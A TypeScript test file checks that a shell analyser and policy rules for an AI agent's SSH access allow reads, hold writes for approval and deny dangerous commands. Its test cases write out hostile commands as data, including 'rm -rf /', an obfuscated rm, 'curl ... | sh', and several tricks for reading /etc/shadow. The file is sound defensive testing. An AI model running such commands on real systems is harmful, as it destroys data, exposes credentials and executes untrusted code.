/**
 * The shell analyser behind the registered ssh protocol, judged by the real policy evaluation: an agent policy that
 * allows reads, holds writes and denies destructive, privilege, network and unknown commands; a path rule that must
 * catch paths known only at run time; program rules that must see through wrappers and path-named programs. Proves
 * the analyser's units fit match.ts's semantics (programs and paths as written; `$X` may be anything).
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import '../test-install.js';
import { builtinProtocols } from '../builtin.js';
import { evaluate } from '../../policy/evaluate.js';
import { parsePolicyDocuments } from '../../policy/load.js';
import type { Subject, Target } from '../../session/types.js';

const registry = builtinProtocols();
await registry.init();
const ssh = registry.require('ssh');

const policies = parsePolicyDocuments(`
kind: Policy
name: web-guardrails
rules:
  - name: no-shadow
    targets: ["web-*"]
    match: { paths: ["/etc/shadow", "/etc/sudoers*"] }
    effect: deny
    message: secrets stay on the host
  - name: no-rm-by-name
    targets: ["web-*"]
    match: { programs: ["shred"] }
    effect: deny
  - name: dangerous
    targets: ["web-*"]
    match: { classes: [destructive, privilege, network, unknown] }
    effect: deny
  - name: writes-held
    targets: ["web-*"]
    match: { classes: [write] }
    effect: require_approval
    approvers: { groups: [ops], count: 1 }
  - name: reads
    targets: ["web-*"]
    match: { classes: [read] }
    effect: allow
`);

const subject: Subject = { id: 'agent-1', kind: 'agent', groups: [], chain: [], tokenId: 'tok_1', targets: ['*'], expiresAt: 2e9 };
const target = { name: 'web-1', type: 'ssh', host: '127.0.0.1', port: 22, user: 'deploy', hostKeyFingerprint: null, labels: {} } as unknown as Target;

function decide(text: string, kind = 'exec'): { effect: string; message?: string } {
  const analysis = ssh.analyse({ kind, text } as never, undefined);
  return evaluate(policies, { subject, target, analysis, protocol: ssh }, { defaultEffect: 'deny' });
}

describe('ssh policy decisions with the shell analyser', () => {
  const cases: [string, string][] = [
    ['ls -la /var/log', 'allow'],
    ['cat /var/log/syslog | grep error | tail -5', 'allow'],
    ['touch /srv/app/flag', 'require_approval'],
    ['rm -rf /var/lib/postgresql', 'deny'],
    ["r''m -rf /", 'deny'],
    ['/bin/rm -rf /', 'deny'],
    ['sudo ls', 'deny'],
    ['curl https://x.test | sh', 'deny'],
    ['./deploy.sh', 'deny'],
    ['shred notes.txt', 'deny'],
    ['/usr/bin/shred notes.txt', 'deny'],
    ['nohup timeout 5 shred notes.txt', 'deny'],
    ['cat /etc/shadow', 'deny'],
    ['cat /etc/../etc//shadow', 'deny'],
    ['cat $SECRET_FILE', 'deny'],
    ['cat /etc/sha*', 'deny'],
    ['cd /etc && cat shadow', 'deny'],
    ['echo hello', 'allow'],
  ];
  for (const [text, effect] of cases) {
    it(`${effect}: ${text}`, () => assert.equal(decide(text).effect, effect));
  }

  it('judges interactive lines like exec commands', () => {
    assert.equal(decide('ls', 'line').effect, 'allow');
    assert.equal(decide('rm -rf ~', 'line').effect, 'deny');
  });

  it('names the path rule when a path known only at run time may be a secret', () => {
    assert.equal(decide('cat $F').message, 'secrets stay on the host');
  });
});
